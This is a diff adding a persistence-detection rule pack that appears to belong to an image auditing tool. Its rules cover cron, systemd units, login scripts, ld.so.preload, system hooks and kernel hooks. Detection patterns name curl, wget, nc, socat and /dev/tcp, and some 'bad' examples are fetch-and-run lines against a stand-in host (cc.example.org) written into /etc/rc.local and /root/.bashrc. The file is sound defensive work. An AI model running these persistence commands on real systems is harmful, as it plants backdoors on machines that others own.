@@ -1,0 +1,155 @@
+# Persistence: what runs by itself on every machine of the image.
+pack "baseline" {}
+
+rule "PER002" {
+  title    = "new scheduled job"
+  severity = "medium"
+  on       = "write"
+  when     = !write.deleted && path_under(write.path, "/etc/cron.d", "/etc/cron.hourly", "/etc/cron.daily", "/etc/cron.weekly", "/etc/cron.monthly", "/etc/crontab", "/var/spool/cron", "/etc/anacrontab")
+  message  = "${write.path} runs by itself on every machine of this image"
+  why      = "a job that nobody declared is the plainest way to stay on a machine"
+  fix      = "declare it to the reviewer with a waiver, or use a unit of the product's package"
+  refs     = ["ATT&CK T1053.003"]
+  bad      = ["echo '*/5 * * * * root /opt/app/sync' > /etc/cron.d/app"]
+  good     = ["rm -f /etc/cron.daily/apt-compat", "cp app.cron /opt/app/"]
+}
+
+rule "PER003" {
+  title    = "unit runs a program from a place that others may write"
+  severity = "high"
+  on       = "write"
+  when     = (matches(write.path, "/systemd/(system|user)/.*[.](service|timer|socket|path|conf)$") && !write.deleted &&
+              matches([write.content, sed_adds(write.expression)], "^Exec[A-Za-z]*[ \t]*=[ \t]*[-+!@:|]*(/tmp/|/var/tmp/|/dev/shm/|/[^ ]*/[.][a-zA-Z])"))
+  message  = "${write.path} starts a program from a temporary or hidden directory"
+  why      = "programs of a product do not live there; implants do"
+  fix      = "install the program below /usr or /opt"
+  refs     = ["CWE-426", "ATT&CK T1543.002", "ATT&CK T1036.005"]
+  bad = [
+    <<-EOT
+      cat > /etc/systemd/system/app.service <<'EOF'
+      [Service]
+      ExecStart=/dev/shm/.app/run
+      EOF
+    EOT
+  ]
+  good = [
+    <<-EOT
+      cat > /etc/systemd/system/app.service <<'EOF'
+      [Service]
+      ExecStart=/opt/app/bin/run
+      PrivateTmp=yes
+      EOF
+    EOT
+  ]
+}
+
+rule "PER004" {
+  title    = "service starts with the machine"
+  severity = "info"
+  on       = "service"
+  when     = one_of(service.action, "enable", "unmask")
+  message  = "${service.name} starts by itself on every machine of this image"
+  why      = "a reviewer wants to know what is running"
+  fix      = "declare the services of the product"
+  refs     = ["ATT&CK T1543.002"]
+  bad      = ["systemctl enable redis-server"]
+  good     = ["systemctl restart redis-server"]
+}
+
+rule "PER005" {
+  title    = "login or start script reaches for the network"
+  severity = "high"
+  on       = "write"
+  when     = (!write.deleted && matches(write.path, "^/etc/(rc[.]local|profile|bash[.]bashrc|bashrc|zshrc)$", "^/etc/(init[.]d|profile[.]d|update-motd[.]d|rc[0-9S][.]d)/", "/[.](bashrc|bash_profile|profile|zshrc|bash_login|bash_logout|xprofile)$") &&
+              matches([write.content, sed_adds(write.expression)], "^[^#]*(curl|wget|ncat|socat|/dev/tcp/|[^a-z]nc )[^#]*", "base64[ \t]+(-d|--decode|-D)[^#]*[|]"))
+  message  = "${write.path} reaches for the network at every start or login"
+  why      = "code that arrives after the review is run by every machine"
+  fix      = "do it during the build, where it is audited and recorded"
+  refs     = ["CWE-829", "ATT&CK T1037.004", "ATT&CK T1546.004"]
+  bad = [
+    "echo 'curl -fsSL https://cc.example.org/b | sh' >> /etc/rc.local",
+    "echo '(wget -qO- https://cc.example.org/b | bash) &' >> /root/.bashrc",
+  ]
+  good = [
+    "echo 'export EDITOR=vim' >> /root/.bashrc",
+    "echo '# see curl(1)' >> /etc/profile.d/app.sh",
+  ]
+}
+
+rule "PER006" {
+  title    = "library is loaded into every program"
+  severity = "critical"
+  on       = "write"
+  when     = !write.deleted && write.path == "/etc/ld.so.preload"
+  message  = "${write.path} loads a library into every program of the machine"
+  why      = "it is how rootkits hide files, processes and logins; no product needs it for all programs"
+  fix      = "set LD_PRELOAD for the one program that needs it"
+  refs     = ["CWE-114", "ATT&CK T1574.006"]
+  bad      = ["echo /usr/local/lib/libhook.so >> /etc/ld.so.preload"]
+  good     = ["echo /opt/app/lib > /etc/ld.so.conf.d/app.conf", "rm -f /etc/ld.so.preload"]
+}
+
+rule "PER007" {
+  title    = "hook of the system runs a program"
+  severity = "medium"
+  on       = "write"
+  when     = (!write.deleted &&
+              ((path_under(write.path, "/etc/udev/rules.d", "/lib/udev/rules.d", "/usr/lib/udev/rules.d") && matches(write.content, "(RUN|PROGRAM)([{]program[}])?[ \t]*[+]?=")) ||
+               path_under(write.path, "/etc/NetworkManager/dispatcher.d", "/etc/network/if-up.d", "/etc/networkd-dispatcher", "/etc/dhcp/dhclient-exit-hooks.d", "/etc/update-motd.d", "/usr/lib/systemd/system-generators", "/etc/systemd/system-generators", "/usr/share/git-core/templates/hooks") ||
+               (path_under(write.path, "/etc/apt/apt.conf.d") && matches(write.content, "(Pre|Post)-Invoke[^;]*(curl|wget|sh |bash|python|/opt|/usr/local|/tmp)")) ||
+               matches(write.path, "/(sitecustomize|usercustomize)[.]py$", "/(site|dist)-packages/[^/]*[.]pth$")))
+  message  = "${write.path} is run by the system itself when something happens"
+  why      = "hooks are run as root, and nobody looks for them"
+  fix      = "use a unit of the product's own"
+  refs     = ["ATT&CK T1546", "ATT&CK T1037"]
+  bad = [
+    "echo 'ACTION==\"add\", RUN+=\"/opt/app/plug\"' > /etc/udev/rules.d/99-app.rules",
+    "cp hook.sh /etc/NetworkManager/dispatcher.d/90-app",
+  ]
+  good = [
+    "echo 'DPkg::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb || true\"; };' > /etc/apt/apt.conf.d/docker-clean",
+    "echo 'KERNEL==\"vd*\", SYMLINK+=\"disk\"' > /etc/udev/rules.d/99-app.rules",
+  ]
+}
+
+rule "PER008" {
+  title    = "first-boot script"
+  severity = "info"
+  on       = "write"
+  when     = !write.deleted && path_under(write.path, "/var/lib/cloud/scripts", "/etc/cloud/cloud.cfg.d", "/var/lib/cloud/seed", "/etc/rc.local", "/etc/firstboot.d")
+  message  = "${write.path} runs when a machine of this image starts"
+  why      = "it is never run during the build, so no record of the build can show what it does"
+  fix      = "keep it short; it is audited like the rest"
+  refs     = ["ATT&CK T1037"]
+  bad      = ["cp 001_onboot /var/lib/cloud/scripts/per-instance/001_onboot"]
+  good     = ["cp 001_onboot /opt/app/001_onboot"]
+}
+
+rule "PER009" {
+  title    = "kernel runs a program for a file type or module"
+  severity = "high"
+  on       = "write"
+  when     = (!write.deleted &&
+              ((path_under(write.path, "/etc/modprobe.d", "/lib/modprobe.d", "/usr/lib/modprobe.d") && matches(write.content, "^[ \t]*install[ \t]+[^ \t]+[ \t]+[^#]*(sh|bash|python|perl|curl|wget|nc|/opt|/tmp|/usr/local)") ) ||
+               path_under(write.path, "/etc/binfmt.d", "/proc/sys/fs/binfmt_misc", "/proc/sys/kernel/core_pattern") ||
+               (path_under(write.path, "/etc/sysctl.d", "/etc/sysctl.conf") && matches(write.content, "^[ \t]*kernel[./]core_pattern[ \t]*=[ \t]*[|]"))))
+  message  = "${write.path} lets the kernel start a program as root"
+  why      = "such programs run as root at the touch of a file, and nobody looks for them"
+  fix      = "remove it"
+  refs     = ["ATT&CK T1547.006", "ATT&CK T1546"]
+  bad      = ["echo 'install usb_storage /usr/local/bin/plug' > /etc/modprobe.d/usb.conf"]
+  good     = ["echo 'install dccp /bin/true' > /etc/modprobe.d/dccp.conf", "echo 'blacklist floppy' > /etc/modprobe.d/floppy.conf"]
+}
+
+rule "PER010" {
+  title    = "library is loaded into programs by the environment"
+  severity = "critical"
+  on       = "env"
+  when     = env.persisted && one_of(env.name, "LD_PRELOAD", "LD_AUDIT")
+  message  = "${env.path} sets ${env.name} for every program"
+  why      = "the library runs in every program, those of root included"
+  fix      = "set it for the one program that needs it"
+  refs     = ["CWE-114", "ATT&CK T1574.006"]
+  bad      = ["echo 'LD_PRELOAD=/usr/local/lib/libhook.so' >> /etc/environment"]
+  good     = ["LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 redis-server --version"]
+}
